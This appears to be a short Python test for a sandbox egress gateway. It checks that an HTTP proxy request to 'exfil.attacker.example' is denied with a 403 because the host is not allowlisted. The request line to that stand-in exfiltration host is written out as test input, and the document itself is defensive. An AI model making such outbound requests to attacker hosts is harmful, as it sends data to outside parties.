# what: the gateway as an explicit proxy: GET http://exfil.attacker.example/ (absolute URI)
# include: http
# expect-denied: exfil.attacker.example 80 http not_allowlisted
# expect-stdout: STATUS: HTTP/1.1 403
import socket


gw = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
print("GATEWAY:", gw)
report(exchange(gw, 3128, b"GET http://exfil.attacker.example/ HTTP/1.1\r\nHost: exfil.attacker.example\r\nConnection: close\r\n\r\n"))
